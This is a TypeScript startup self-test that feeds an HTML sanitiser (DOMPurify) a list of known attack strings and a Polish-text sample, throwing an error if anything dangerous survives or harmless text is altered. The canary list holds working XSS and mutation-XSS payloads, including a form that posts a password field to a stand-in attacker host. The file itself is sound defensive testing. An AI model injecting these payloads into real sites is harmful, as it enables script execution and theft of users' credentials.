/** The sanitiser does not do its work here; the server must not start with it ([sec 25]). */
export class SanitiserBroken extends Error {
  override readonly name = 'SanitiserBroken';
}

/** Each must come out without anything that a browser would run, load or send. */
const canaries: readonly string[] = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<form action="//evil.example"><input name=password></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p style="background:url(//evil.example)" id="plan" class="fixed">x</p>',
];
const dangerous =
  /onerror=|<script|script:|<form|<input|<iframe|<svg|<math|<style|style=|id=|class=|evil\.example/i;

/** Must come out letter by letter: a sanitiser that loses text is as broken as one that loses none. */
const harmless =
  '<h2 lang="pl">Zażółć</h2><p>gęślą <a href="/about">jaźń</a></p><table><tbody><tr><td colspan="2">1</td></tr></tbody></table>';

/**
 * Tries a sanitiser on known attacks and on harmless text. Some DOMs make DOMPurify let everything through, others make
 * it destroy the text.
 * @param isSupported what DOMPurify says of its DOM
 * @throws SanitiserBroken that names what went wrong
 */
export function assertSanitiserWorks(clean: (html: string) => string, isSupported: boolean): void {
  if (!isSupported) throw new SanitiserBroken('DOMPurify does not support this DOM; use jsdom.');
  for (const canary of canaries) {
    const cleaned = clean(canary);
    if (dangerous.test(cleaned))
      throw new SanitiserBroken(`The sanitiser let this through: ${canary} became ${cleaned}`);
  }
  const cleaned = clean(harmless);
  if (cleaned !== harmless)
    throw new SanitiserBroken(`The sanitiser damaged harmless text: ${harmless} became ${cleaned}`);
}
